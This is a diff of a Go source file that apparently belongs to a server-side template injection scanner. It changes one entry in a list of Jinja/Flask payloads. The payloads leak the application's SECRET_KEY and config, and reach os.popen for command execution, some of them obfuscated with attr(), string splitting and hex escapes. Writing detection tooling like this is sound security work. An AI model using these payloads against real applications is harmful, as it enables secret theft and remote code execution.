@@ -32,7 +32,7 @@ func templates() []Attack {
 		card(`{% for x in [7*191*3] %}{{ x }}{% endfor %}`, "4011"),
 		card(`{{ config.SECRET_KEY }}`, sourceKey),
 		card(`{{ config }}`, sourceKey),
-		card(`{{ url_for.__globals__.current_app.secret_key }}`, sourceKey),
+		card(`{{ get_flashed_messages.__globals__.current_app.secret_key }}`, sourceKey),
 		card(`{{ cycler.__init__.__globals__`+shell+` }}`, "4011"),
 		card(`{{ (lipsum|attr("__globals__"))["o"+"s"].popen("echo $((7*191*3))").read() }}`, "4011"),
 		card(`{{ lipsum["\x5f\x5fglobals\x5f\x5f"]["os"].popen("echo $((7*191*3))").read() }}`, "4011"),
